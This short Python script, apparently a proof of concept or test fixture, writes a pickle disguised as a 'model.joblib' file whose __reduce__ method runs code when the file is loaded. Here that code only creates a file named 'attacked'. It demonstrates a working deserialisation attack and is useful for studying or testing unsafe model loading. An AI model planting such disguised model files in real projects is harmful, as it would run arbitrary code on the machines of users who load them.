"""A harmless model file with an attack: loading it makes a file."""

import pickle
from pathlib import Path


class Attack:
    def __reduce__(self):
        return Path.touch, (Path("attacked"),)


if __name__ == "__main__":
    Path("model.joblib").write_bytes(pickle.dumps(Attack()))
